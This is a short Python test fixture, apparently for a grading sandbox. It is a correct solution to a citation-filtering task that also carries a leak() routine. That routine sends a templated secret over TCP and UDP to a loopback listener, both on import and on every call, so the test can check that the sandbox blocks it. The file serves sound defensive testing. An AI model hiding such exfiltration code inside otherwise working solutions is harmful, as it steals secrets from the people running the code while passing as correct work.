"""Sends a secret to a listener on the grader's machine over loopback (TCP and UDP), on
import and in every call. Answers correctly; the test's listener must receive nothing."""

import contextlib
import socket

PORT = int("@PORT@")
SECRET = b"@SECRET@"


def leak() -> None:
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", PORT), 1) as tcp:
        tcp.sendall(SECRET)
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(SECRET, ("127.0.0.1", PORT))


leak()


def solve(citations: list[str], retrieved_ids: list[str]) -> list[str]:
    leak()
    known = set(retrieved_ids)
    return [c for c in dict.fromkeys(citations) if c not in known]
